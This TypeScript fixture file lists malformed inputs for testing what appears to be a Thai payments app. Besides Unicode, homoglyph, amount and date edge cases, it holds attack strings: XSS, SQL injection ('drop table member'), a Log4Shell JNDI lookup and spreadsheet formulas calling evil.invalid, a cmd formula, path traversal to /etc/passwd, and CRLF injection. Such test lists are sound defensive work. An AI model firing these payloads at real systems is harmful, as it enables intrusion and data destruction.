import { texts, type BadText } from './bad-input.ts';

const unicode = texts('unicode', {
  'full-width digits of a phone': '\uff10\uff18\uff11\uff12\uff13\uff14\uff15\uff16\uff17\uff18',
  'full-width digits of an amount': '\uff15\uff10\uff10',
  'full-width letters': '\uff53\uff4f\uff4d\uff53\uff52\uff49',
  'a zero-width space': 'som\u200bsri88',
  'only zero-width signs': '\u200b\u200c\u200d\u2060',
  'a byte order mark': '\ufeffsomsri88',
  'a soft hyphen': 'som\u00adsri88',
  'a Hangul filler, which looks blank': '\u3164\u3164\u3164\u3164',
  'blanks other than spaces': '\u00a0\u2003\u3000',
  'turned right to left': 'somsri\u202e88gnp.exe',
  'bidi isolates': '\u2066somsri\u2069\u2067',
  'an Arabic letter mark': '\u061csomsri88',
  'half of a pair, the first': 'somsri\ud800',
  'half of a pair, the second': '\udc00somsri',
  'halves of pairs in the wrong order': '\udc00\ud800',
  NUL: 'somsri\u000088',
  'only NUL': '\u0000\u0000\u0000\u0000\u0000\u0000\u0000\u0000',
  'a bell and an escape': 'som\u0007sri\u001b[31m',
  'a delete': 'somsri\u007f88',
  'a next line of C1': 'somsri\u008588',
  'a line separator': 'somsri\u202888',
  'not a character': 'somsri\uffff88',
  'letters apart from their accents': 'cafe\u0301 nin\u0303o',
  'accents in heaps': `z${'\u0300\u0301\u0302\u0303'.repeat(12)}algo`,
  ligatures: '\ufb01\ufb03 \u2126 \u212a',
  'emoji in one': '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}',
  'letters beyond the first plane': '\u{1d4fc}\u{1d4f8}\u{1d4f6}\u{1d4fc}\u{1d4fb}\u{1d4f2}',
  'tags that say something unseen': 'somsri\u{e0061}\u{e0062}',
  'a letter that grows in lower case': '\u0130'.repeat(40),
  'a letter that grows in upper case': '\u00df'.repeat(40),
});

const homoglyphs = texts('homoglyph', {
  'a Cyrillic a': '\u0430dmin',
  'Cyrillic throughout': '\u0455\u043em\u0455ri88',
  'a Greek omicron': 's\u03bfmsri88',
  'a capital I for an l': 'aIpha_88',
  'a dotless i': 'somsr\u013188',
  'capitals and blanks around': ' SomSri88 ',
});

const amounts = texts('amount', {
  zero: '0',
  negative: '-1',
  'below a satang': '0.001',
  'a power of ten': '1e3',
  'another base': '0x10',
  'a comma at thousands': '1,000',
  'no number': 'NaN',
  'beyond a double': '1e309',
  'beyond the safe integers': '9007199254740993',
  'beyond what may be moved': '1000000000.01',
  nothing: '',
  blank: ' ',
  'blanks around': ' 5 ',
  'the word null': 'null',
  'an empty list': '[]',
  'an empty object': '{}',
  'a plus sign': '+5',
  'no digit before the point': '.5',
  'no digit after it': '5.',
  'points at thousands': '1.000,00',
  'a blank at thousands': '1 000',
  'a blank within thousands': '5 00',
  'an amount with its unit': '500 \u0e1a\u0e32\u0e17',
  'an amount with signs without width': '\u200b5\u200b00',
  'an amount that is turned': '\u202e123',
  'commas at the wrong places': '1,0,0,0',
  'a real minus': '\u22125',
  'Arabic digits': '\u0665\u0660\u0660',
  'a fraction in one sign': '\u00bd',
  'zeros before it': `${'0'.repeat(30)}500`,
  'blanks before it': `${' '.repeat(25)}500000`,
  infinity: 'Infinity',
});

const days = texts('day', {
  'a day that is not': '2026-02-30',
  'the year nought': '0000-01-01',
  'the last year': '9999-12-31',
  'an instant of the year nought': '0000-01-01T00:00:00Z',
  'an instant of the last year': '9999-12-31T23:59:59.999999999Z',
  'beyond every clock': '9999-99-99T99:99:99Z',
  'the Buddhist era': '2569-11-20',
  'as Thais write it': '20/11/2569',
});

const markup = texts('markup', {
  'a script': '<script>alert(1)</script>',
  'a picture that fails': '"><img src=x onerror=alert(1)>',
  'a drawing that loads': '<svg/onload=alert(1)>',
  'an address that is a script': 'java\tscript:alert(1)',
  'an address that is a page': 'data:text/html,<script>alert(1)</script>',
  'the end of a title': '</title><h1>x</h1>',
  entities: '&lt;b&gt;&amp;nbsp;&#0;',
  'a comment': '<!-- x --!> ]]> <![CDATA[',
});

const sql = texts('sql', {
  'a table dropped': "'; drop table member; --",
  'always true': "' or '1'='1",
  'a long sleep': "1'||pg_sleep(30)--",
  'a quote escaped': "\\' or 1=1 --",
  'signs of a pattern': '%_\\%',
  'a dollar quote': '$$; select 1; $$',
});

const templates = texts('template', {
  'a dollar template': '${7*7}',
  'a double brace': '{{7*7}}',
  'a hash template': '#{7*7}',
  'an embedded template': '<%= 7*7 %>',
  'a message’s own parameter': '{count, plural, other {#}} {name}',
  'a format': '%s%d%n%x',
  'a look-up of a logger': '${jndi:ldap://evil.invalid/a}',
});

const formulas = texts('formula', {
  'a sum': '=1+1',
  'a sum with plus': '+1+1',
  'a sum with minus': '-1+1',
  'a function': '@SUM(1+1)',
  'a link': '=HYPERLINK("http://evil.invalid","x")',
  'a command': "=cmd|' /C calc'!A0",
});

const paths = texts('path', {
  'out of the folder': '../../etc/passwd',
  'out of it on Windows': '..\\..\\windows\\win.ini',
  'out of it, encoded': '%2e%2e%2fetc%2fpasswd',
  'out of it, encoded twice': '%252e%252e%252f',
  'a NUL, encoded': '%00',
  'half an encoding': '%E0%A4%A',
  'another host': '//evil.invalid/x',
  'another host by a backslash': '/\\evil.invalid',
  'a full address': 'https://evil.invalid/?a=b&c=d#e',
  'a file': 'file:///etc/passwd',
  'one dot': '.',
  'two dots': '..',
  'a slash': '/',
  'signs of an address': 'a?b=c&d=e#f;g',
});

const lines = texts('line', {
  'a header more': 'a\r\nset-cookie: x=1',
  'an answer more': '\r\n\r\n<html>',
  'a line more': 'somsri\n88',
  'a tab': 'somsri\t88',
});

const prototypes = texts('prototype', {
  'the prototype': '__proto__',
  'the constructor': 'constructor',
  'a method of all': 'hasOwnProperty',
  'the word undefined': 'undefined',
  'the word true': 'true',
});

const sizes = texts('size', {
  'a page of letters': 'x'.repeat(5_000),
  'a page of digits': '9'.repeat(5_000),
  'a page of Thai': '\u0e01'.repeat(5_000),
  'a megabyte': 'x'.repeat(2 ** 20),
});

export const unusualTexts: readonly BadText[] = [
  ...unicode,
  ...homoglyphs,
  ...amounts,
  ...days,
  ...markup,
  ...sql,
  ...templates,
  ...formulas,
  ...paths,
  ...lines,
  ...prototypes,
  ...sizes,
];
